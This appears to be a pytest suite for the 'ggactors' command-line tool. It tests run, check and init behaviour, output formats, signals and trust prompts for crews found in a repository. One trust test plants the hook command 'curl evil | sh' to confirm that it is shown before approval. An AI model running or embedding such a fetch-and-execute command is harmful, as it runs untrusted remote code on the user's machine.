"""``run``, ``check`` and ``init`` as a person meets them: real processes, real repositories."""

from __future__ import annotations

import io
import json
import shlex
import signal
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest
from cli_kit import Shell, environment, lines_of, nothing_is_left  # noqa: F401 - a fixture

from ggactors.cli.main import main
from ggactors.runtime.collector import THRESHOLDS
from ggactors.telemetry.jsonl import parse_line
from ggactors.testing.crews import finish, issue, shell, turn, wait, write, write_crew
from ggactors.testing.repos import Repo, make_repo

if TYPE_CHECKING:
    from pathlib import Path

HELLO = {
    "root": [turn(issue("Say hello")), wait("ISSUE-1"), finish("Hello is said.")],
    "ISSUE-1.*": [turn(write("hello.txt", "hello\n")), finish("Wrote hello.txt.")],
}
FAILS = {
    "root": [turn(issue("Hopeless")), wait("ISSUE-1"), finish("It did not work.")],
    "ISSUE-1.*": [turn(write("half.txt", "x"))],
}
SLOW = {"root": [turn(shell("echo $$"), delaySecs=0.3, repeat=200)]}


class Place(Shell):
    """A repository, a crew beside it, and a shell that stands beside both."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder, folder / "state")
        self.repo: Repo = make_repo(folder / "repo")

    def crew(self, script=None, **document) -> Path:
        return write_crew(self.cwd / "crew", script or HELLO, **document)

    def run(self, *args: object, crew: Path | None = None, task: str | None = "do it", **more):
        chosen = self.crew() if crew is None else crew
        given = [] if task is None else ["--task", task]
        return self("run", chosen, "--workspace", self.repo.path, *given, *args, **more)


@pytest.fixture
def place(tmp_path) -> Place:
    return Place(tmp_path)


def test_a_run_completes_and_tells_board_summary_and_where_the_work_is(place):
    ran = place.run()
    assert ran.returncode == 0, ran.stderr
    assert "ISSUE-1  done  coder  1 attempt  Say hello; merged as " in ran.stdout
    assert "completed (exit code 0)" in ran.stdout
    assert "Hello is said." in ran.stdout
    assert f"The work is in {place.repo.path}" in ran.stdout
    assert "ISSUE-1 is done" in ran.stderr, "progress goes to stderr, in plain lines where there is no terminal"
    assert "\x1b" not in ran.stdout + ran.stderr
    assert place.repo.show("hello.txt") == "hello"
    assert place.repo.status() == ""
    assert not (place.repo.path / ".ggactors").exists()


def test_a_driven_run_has_the_collector_that_the_benchmarks_measure(place):
    place.crew().with_name("told.py").write_text(
        "import gc\n"
        "def reply(request):\n"
        "    told = f'{gc.get_threshold()}, frozen: {gc.get_freeze_count() > 0}'\n"
        "    return {'calls': [{'tool': 'finish', 'args': {'summary': told}}]}\n"
    )
    ran = place.run("--set", "agents.lead.model=python/told.py:reply")
    assert f"{THRESHOLDS}, frozen: True" in ran.stdout, ran.stderr


def test_json_prints_one_object_and_nothing_else_on_stdout(place):
    ran = place.run("--json", "--run-id", "mine")
    told = json.loads(ran.stdout)
    assert ran.stdout.count("\n") == 1
    assert (told["run"], told["status"], told["exitCode"], told["issues"]) == (
        "mine",
        "completed",
        0,
        {"ISSUE-1": "done"},
    )
    assert told["folder"] == str(place.home / "runs" / "mine")
    for key in ("summary", "verified", "turns", "errors", "usage", "cost", "limitHit", "stalled", "agents", "landed"):
        assert key in told
    assert "completed (exit code 0)" in ran.stderr


def test_events_on_stdout_are_the_whole_stream_and_nothing_else(place):
    ran = place.run("--events", "-", "--run-id", "mine")
    assert ran.returncode == 0
    stream = lines_of(ran.stdout)
    assert [event["seq"] for event in stream] == list(range(1, len(stream) + 1))
    assert (stream[0]["type"], stream[-1]["type"]) == ("session_started", "session_ended")
    assert ran.stdout == (place.home / "runs" / "mine" / "events.jsonl").read_text()
    assert all(parse_line(line) is not None for line in ran.stdout.splitlines())


def test_events_go_to_a_file_too_written_anew(place):
    target = place.cwd / "events.jsonl"
    target.write_text("of yesterday\n")
    ran = place.run("--events", target, "--run-id", "mine")
    assert ran.returncode == 0
    assert target.read_text() == (place.home / "runs" / "mine" / "events.jsonl").read_text()
    assert "completed" in ran.stdout


def test_a_reader_of_events_that_goes_away_changes_nothing_about_the_run(place):
    crew = place.crew()
    run = place.start("run", crew, "--workspace", place.repo.path, "--task", "x", "--events", "-")
    run.stdout.readline()
    run.stdout.close()
    errors = run.stderr.read().decode()
    run.stderr.close()
    assert run.wait() == 0, errors
    assert "Traceback" not in errors
    assert place.repo.show("hello.txt") == "hello"


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["--json", "--events", "-"], "both want stdout"),
        (["--task", "a", "--task-file", "b"], "two tasks"),
        (["--task", "  "], "--task is empty"),
        (["--task-file", "nope.md"], "nope.md: No such file"),
        ([], "stdin is empty"),
        (["--crew", "other.json", "--task", "a"], "two crews"),
        (["--task", "a", "--land", "soon"], "--land"),
        (["--task", "a", "--events", "no/such/folder"], "no/such/folder: No such file"),
        (["--task", "a", "--run-id", "../x"], "is no run id"),
        (["--task", "a", "--run-id", "a..b"], "is no run id"),
        (["--task", "a", "--run-id", "a.lock"], "is no run id"),
        (["--task", "a", "--set", "limits.maxParallel=0"], "limits.maxParallel"),
        (["--task", "a", "--workspace", "nowhere"], "nowhere"),
    ],
)
def test_what_cannot_be_run_is_refused_in_a_line_or_two(place, args, said, monkeypatch, capfd):
    monkeypatch.chdir(place.cwd)
    monkeypatch.setenv("GGACTORS_HOME", str(place.home))
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"")))
    assert main(["run", str(place.crew()), "--workspace", str(place.repo.path), *args]) == 2
    ran = capfd.readouterr()
    assert ran.out == ""
    assert said in ran.err
    assert "Traceback" not in ran.err
    assert len(ran.err.splitlines()) <= 3
    assert not (place.home / "runs").exists() or list((place.home / "runs").iterdir()) == []


def test_the_task_comes_from_stdin_and_from_a_file_with_whatever_bytes(place):
    crew = place.crew()
    for task, how in ((b"pip\xffed \xe2\x9c\x93", []), (b"\xef\xbb\xbffrom a file", ["--task-file", "task.md"])):
        (place.cwd / "task.md").write_bytes(task)
        ran = place("run", crew, "--workspace", place.repo.path, *how, "--events", "-", "--land", "never", stdin=task)
        assert ran.returncode == 0, ran.stderr
        brief = next(event["brief"] for event in lines_of(ran.stdout) if event["type"] == "agent_spawned")
        assert task.decode("utf-8-sig", "replace") in brief


def test_a_refusal_names_every_problem_of_crew_and_options_at_once_P2(place):
    crew = place.crew(limits={"maxParallel": -1, "maxTurns": "many"}, agents={"coder": {"model": "script/none.json"}})
    ran = place.run(crew=crew)
    assert ran.returncode == 2
    for said in ("limits.maxParallel", "limits.maxTurns", "none.json"):
        assert said in ran.stderr
    first, *rest = ran.stderr.splitlines()
    assert first == f"ggactors run: the launch is refused, for {len(rest)} reasons:"
    checked = place("check", crew)
    assert checked.returncode == 2
    assert checked.stdout.splitlines() == [line.strip() for line in rest]


def test_set_changes_one_value_for_one_run(place):
    ran = place.run("--set", "limits.maxTurns=1", "--json")
    assert ran.returncode == 3
    assert json.loads(ran.stdout)["status"] == "exhausted"
    assert "stopped by limits.maxTurns = 1: 1 turns were taken; raise it" in ran.stderr


def test_a_failed_issue_gives_exit_code_4_and_the_command_that_fetches_its_work(place):
    ran = place.run(crew=place.crew(FAILS, params={"maxRetries": 0}, limits={"maxTurns": 3}))
    assert ran.returncode == 4, ran.stderr
    assert "ISSUE-1  failed" in ran.stdout
    *_, command = (line.strip() for line in ran.stdout.splitlines() if " fetch " in line)
    subprocess.run(shlex.split(command), check=True, capture_output=True, env=environment(place.home))
    assert place.repo.show("half.txt", "recovered-ISSUE-1") == "x"


def test_a_held_landing_gives_the_command_that_fetches_the_work_and_changes_no_exit_code_W10(place):
    (place.repo.path / "hello.txt").write_text("mine, not yet added\n")
    ran = place.run("--run-id", "mine")
    assert ran.returncode == 0, ran.stderr
    assert "The work was not landed: your checkout was left where it is (dirty: hello.txt)." in ran.stdout
    *_, command = (line.strip() for line in ran.stdout.splitlines() if " fetch " in line)
    subprocess.run(shlex.split(command), check=True, capture_output=True, env=environment(place.home))
    assert place.repo.show("hello.txt", "ggactors-mine") == "hello"
    assert (place.repo.path / "hello.txt").read_text() == "mine, not yet added\n"


# ---------------------------------------------------------------- Ctrl-C


def started_run(place: Place, *args: object) -> subprocess.Popen[bytes]:
    run = place.start("run", place.crew(SLOW), "--workspace", place.repo.path, "--task", "x", "--events", "-", *args)
    for line in run.stdout:
        if json.loads(line)["type"] == "turn_outcome":
            return run
    raise AssertionError(run.stderr.read().decode())


def ended(run: subprocess.Popen[bytes]) -> tuple[int, list[dict], str]:
    out, errors = run.communicate(timeout=60)
    return run.returncode, lines_of(out.decode()), errors.decode()


def test_the_first_interrupt_stops_at_turn_boundaries(place):
    run = started_run(place)
    run.send_signal(signal.SIGINT)
    code, stream, errors = ended(run)
    assert code == 130, errors
    assert "Stopping at the agents' next turn boundaries" in errors
    assert stream[-1] == stream[-1] | {"type": "session_ended", "status": "canceled"}
    ending = next(event for event in stream if event["type"] == "agent_state" and event["state"] == "ended")
    assert ending["status"] == "canceled"


@pytest.mark.parametrize("signals", [(signal.SIGINT, signal.SIGINT), (signal.SIGTERM,), (signal.SIGHUP,)])
def test_the_second_interrupt_and_a_termination_stop_at_once_and_the_account_is_given(place, signals):
    run = started_run(place)
    for number in signals:
        run.send_signal(number)
        for line in run.stderr:
            if line.startswith(b"Stopping"):
                break
    code, stream, errors = ended(run)
    assert code == 130, errors
    assert [event["type"] for event in stream[-2:]] == ["session_summary", "session_ended"]
    assert stream[-1]["status"] == "canceled"


# ---------------------------------------------------------------- crews that are found


def found_crew(place: Place) -> Path:
    write_crew(place.repo.path, HELLO)
    return place.repo.path / "crew.json"


def in_repo(place: Place, *args: object, **more):
    return Shell(place.repo.path, place.home)("run", "--task", "x", "--land", "never", *args, **more)


def test_without_a_crew_the_places_looked_at_are_named(place):
    ran = place("run", "--task", "x")
    assert ran.returncode == 2
    for said in ("crew.toml", ".ggactors/crew.json", "nobody/.config/ggactors/crew.toml", "ggactors init"):
        assert said in ran.stderr


def test_a_found_crew_is_refused_without_a_terminal_unless_trusted_5(place):
    found_crew(place)
    ran = in_repo(place)
    assert ran.returncode == 2
    assert "Found the crew crew.json" in ran.stderr
    assert "script.json" in ran.stderr
    assert "--trust" in ran.stderr
    assert not (place.home / "runs").exists()
    assert in_repo(place, "--trust").returncode == 0


def test_a_yes_is_asked_once_and_remembered_for_exactly_that_content_5(place):
    crew = found_crew(place)
    there = Shell(place.repo.path, place.home)
    said_no = there.terminal("run", "--task", "x", "--land", "never")
    said_no.until("[y/N]")
    said_no.type(b"n\n")
    assert said_no.end() == 2
    said_yes = there.terminal("run", "--task", "x", "--land", "never")
    said_yes.until("[y/N]")
    said_yes.type(b"y\n")
    assert said_yes.end() == 0, said_yes.text()
    assert in_repo(place).returncode == 0, "the yes is remembered"
    script = crew.parent / "script.json"
    script.write_text(script.read_text() + "\n")
    assert in_repo(place).returncode == 2, "another content needs another yes"


def test_what_the_hooks_of_a_found_crew_would_run_is_shown_and_part_of_the_yes_5(place):
    crew = found_crew(place)
    document = json.loads(crew.read_text())
    document["hooks"] = [{"event": "session-start", "action": {"type": "command", "command": "curl evil | sh"}}]
    document["agents"][1]["hooks"] = [
        {"event": "agent-stop", "action": {"type": "script", "file": "gate.sh"}},
        {"event": "agent-stop", "action": {"type": "script", "source": "exit 0"}},
    ]
    crew.write_text(json.dumps(document))
    gate = crew.parent / "gate.sh"
    gate.write_text("exit 0\n")
    ran = in_repo(place)
    assert ran.returncode == 2
    for said in ("curl evil | sh: at session-start", "gate.sh: at agent-stop", "written in agents[1].hooks[1]"):
        assert said in ran.stderr
    there = Shell(place.repo.path, place.home)
    said_yes = there.terminal("run", "--task", "x", "--land", "never")
    said_yes.until("[y/N]")
    said_yes.type(b"y\n")
    said_yes.end()
    assert "Found the crew" not in in_repo(place).stderr, "the yes is remembered"
    gate.write_text("exit 1\n")
    assert "Found the crew" in in_repo(place).stderr, "another script needs another yes"


# ---------------------------------------------------------------- check, init


def test_a_script_of_a_hook_that_is_not_there_is_named_by_check_P2(place):
    crew = place.crew()
    document = json.loads(crew.read_text())
    document["agents"][1]["hooks"] = [{"event": "agent-stop", "action": {"type": "script", "file": "gate.sh"}}]
    crew.write_text(json.dumps(document))
    ran = place("check", crew)
    assert ran.returncode == 2
    assert ran.stdout.startswith("agents[1].hooks[0].action.file: the script 'gate.sh'")
    (crew.parent / "gate.sh").write_text("exit 0\n")
    assert place("check", crew).returncode == 0


def test_what_the_environment_says_wrongly_of_stuck_detection_is_named_by_check_P2_G6(place):
    checked = place("check", place.crew(HELLO), GGACTORS_STUCK_MAX_NUDGES="many")
    assert checked.returncode == 2
    assert checked.stdout.startswith("GGACTORS_STUCK_MAX_NUDGES: cannot be read")


def test_a_sound_crew_is_checked_quietly(place):
    ran = place("check", place.crew())
    assert (ran.returncode, ran.stdout) == (0, "")


def test_init_writes_a_crew_that_checks_and_runs_and_overwrites_nothing(place):
    ran = place("init", "new/folder")
    assert ran.returncode == 0, ran.stderr
    crew = place.cwd / "new" / "folder" / "crew.toml"
    before = crew.read_bytes()
    assert place("check", crew).returncode == 0
    again = place("init", "new/folder")
    assert again.returncode == 2
    assert "crew.toml" in again.stderr
    assert crew.read_bytes() == before
    run = place.run(crew=crew)
    assert run.returncode == 0, run.stderr


def test_init_refuses_a_file_as_its_folder(place):
    (place.cwd / "file").write_text("")
    ran = place("init", "file")
    assert ran.returncode == 2
    assert "Traceback" not in ran.stderr
